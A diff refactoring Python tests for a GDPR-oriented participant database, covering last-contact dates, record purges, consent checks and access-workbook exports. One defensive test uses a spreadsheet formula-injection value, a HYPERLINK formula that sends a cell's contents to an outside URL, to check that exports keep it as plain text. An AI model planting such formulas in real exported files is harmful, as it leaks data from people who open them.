@@ -14,9 +14,9 @@ from coachdesk.db import open_database
 from coachdesk.errors import UserError
 from coachdesk.exports.access import write_access_workbook
 from coachdesk.models import AuditEvent, Contract, FollowUpVisit, Outreach, Participant
-from coachdesk.services import gdpr
-from coachdesk.services import recording as rec
+from coachdesk.services import gdpr, recruitment
 from coachdesk.services.demo import build_demo
+from tests import builders as b
 from tests.security_support import add_people
 
 
@@ -44,15 +44,14 @@ def test_last_contact_is_the_latest_dated_event(tmp_path: Path) -> None:
     with db.read() as session:
         assert gdpr.last_contact_dates(session)[person] == date(2010, 2, 10)
         cohort_id = session.get(Participant, person).cohort_id
-    with db.write() as session:
-        rec.record_outcome(session, person, "cours_du_soir", date(2011, 5, 5))
+    b.outcome(db, person, "cours_du_soir", date(2011, 5, 5))
     with db.read() as session:
         assert gdpr.last_contact_dates(session)[person] == date(2011, 5, 5)
-    with db.write() as session:
-        came = rec.add_info_session(session, cohort_id, datetime(2011, 6, 1, 14), "Cnam")
-        rec.set_attendance(session, came, person, "present")
-        missed = rec.add_info_session(session, cohort_id, datetime(2012, 1, 9, 14), "Cnam")
-        rec.set_attendance(session, missed, person, "absent")
+    for starts_at, status in ((datetime(2011, 6, 1, 14), "present"),
+                              (datetime(2012, 1, 9, 14), "absent")):
+        meeting = recruitment.create_info_session(db, cohort_id, starts_at, "Cnam")
+        recruitment.invite(db, meeting, [person])
+        recruitment.set_presence(db, meeting, {person: status})
     with db.read() as session:
         # Present at a meeting counts, being absent from one does not.
         assert gdpr.last_contact_dates(session)[person] == date(2011, 6, 1)
@@ -64,14 +63,13 @@ def test_purge_preview_then_purge_leaves_only_an_anonymous_log(demo) -> None:
     with demo.read() as session:
         total = session.scalar(select(func.count()).select_from(Participant))
         latest = gdpr.last_contact_dates(session)
-        preview = gdpr.purge_candidates(session, today)
+        preview = gdpr.purge_candidates(demo, today)
         names = {(c.last_name, c.first_name) for c in preview}
     expected = {pid for pid, day in latest.items() if day < date(2011, 1, 15)}
     assert {c.participant_id for c in preview} == expected
     assert 0 < len(preview) < total  # the contract holders followed into 2011 stay
     # Ten years of retention: nobody yet.
-    with demo.read() as session:
-        assert gdpr.purge_candidates(session, today, years=10) == []
+    assert gdpr.purge_candidates(demo, today, years=10) == []
 
     with demo.write() as session:
         assert gdpr.purge(session, today) == len(preview)
@@ -80,7 +78,7 @@ def test_purge_preview_then_purge_leaves_only_an_anonymous_log(demo) -> None:
             preview
         )
         assert gdpr.remaining_rows(session, expected) == {}
-        assert gdpr.purge_candidates(session, today) == []
+        assert gdpr.purge_candidates(demo, today) == []
         event = session.execute(select(AuditEvent).where(AuditEvent.action == "purge")).scalar_one()
         assert event.count == len(preview)
         assert "2 ans" in event.detail
@@ -133,8 +131,7 @@ def test_access_workbook_holds_everything_about_one_person(tmp_path: Path, demo)
             .limit(1)
         ).one()
     out = tmp_path / "acces.xlsx"
-    with demo.write() as session:
-        records = write_access_workbook(session, person.id, out)
+    records = write_access_workbook(demo, person.id, out)
     assert records > 5
     assert [p.name for p in tmp_path.iterdir() if p.name != "demo.sqlite3" and
             not p.name.startswith("demo.sqlite3-")] == ["acces.xlsx"]
@@ -163,8 +160,7 @@ def test_missing_consent_is_listed(tmp_path: Path) -> None:
     ids = add_people(db, 3)
     with db.write() as session:
         session.get(Participant, ids[1]).consent_date = date(2010, 2, 12)
-    with db.read() as session:
-        missing = gdpr.missing_consent(session)
+    missing = gdpr.missing_consent(db)
     db.dispose()
     assert [m.participant_id for m in missing] == [ids[0], ids[2]]
 
@@ -180,8 +176,7 @@ def test_access_workbook_keeps_hostile_text_as_text_and_logs_only_the_id(
         person.notes = "appelée le 12\x07 puis\x1b relancée"
         person_id = person.id
     out = tmp_path / "acces-Dupont-Marie.xlsx"
-    with demo.write() as session:
-        write_access_workbook(session, person_id, out)
+    write_access_workbook(demo, person_id, out)
     book = openpyxl.load_workbook(out)
     identity = {row[0]: row[1] for row in book["Personne"].iter_rows(min_row=2, values_only=True)}
     assert identity["Nom"] == '=HYPERLINK("http://example.org/?x="&A1,"Cliquez")'
